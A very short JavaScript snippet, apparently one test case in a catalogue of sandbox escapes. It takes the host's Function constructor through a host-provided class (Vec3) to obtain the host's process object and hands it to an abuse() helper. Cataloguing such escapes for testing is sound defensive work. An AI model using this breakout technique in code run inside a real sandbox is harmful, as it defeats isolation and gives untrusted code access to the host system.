// family: escape
// a class of the host gives the host's Function
async function main (bot) {
  abuse(bot, Vec3.constructor('return process')())
}
